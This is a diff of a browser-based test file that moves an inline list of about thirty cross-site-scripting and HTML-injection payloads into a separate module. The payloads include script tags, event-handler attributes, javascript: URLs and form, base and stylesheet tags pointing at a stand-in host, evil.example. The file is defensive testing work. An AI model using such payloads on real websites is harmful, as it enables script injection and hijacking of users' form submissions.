@@ -3,40 +3,7 @@ import { expect, it } from 'vitest'
 
 import { makeStage } from './support/browser-stage.ts'
 import { describeInChromium } from './support/chromium.ts'
-
-/** Each would set `window.canary` if any page took it for markup, for an address or for script. */
-const payloads = [
-  '<script>canary=1</script>',
-  '</title><script>canary=1</script>',
-  '</h1><script>canary=1</script>',
-  '<img src=x onerror=canary=1>',
-  '"><img src=x onerror=canary=1>',
-  "'><img src=x onerror=canary=1>",
-  '<svg onload=canary=1>',
-  '<svg><script>canary=1</script></svg>',
-  '<body onload=canary=1>',
-  '<iframe srcdoc="<script>parent.canary=1</script>">',
-  '<iframe src="javascript:parent.canary=1">',
-  '<a href="javascript:canary=1" autofocus onfocus=canary=1>x</a>',
-  '<input autofocus onfocus=canary=1>',
-  '" autofocus onfocus="canary=1',
-  "' autofocus onfocus='canary=1",
-  '<details open ontoggle=canary=1>',
-  '<video><source onerror=canary=1></video>',
-  '<math><mtext><script>canary=1</script></mtext></math>',
-  '<object data="javascript:canary=1">',
-  '<embed src="javascript:canary=1">',
-  '<meta http-equiv=refresh content="0;url=javascript:canary=1">',
-  '<base href="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<form action="https://evil.example/"><button>Approve</button></form>',
-  '</form><form action="https://evil.example/" method=post>',
-  '<style>body{background:url(https://evil.example/)}</style>',
-  '<template><script>canary=1</script></template>',
-  '<!--><script>canary=1</script>-->',
-  '&lt;script&gt;canary=1&lt;/script&gt;',
-  '${canary=1}{{canary=1}}',
-]
+import { payloads } from './support/payloads.ts'
 
 /** In the page: whether a payload ran, became an element, or became an attribute. */
 const look = `({
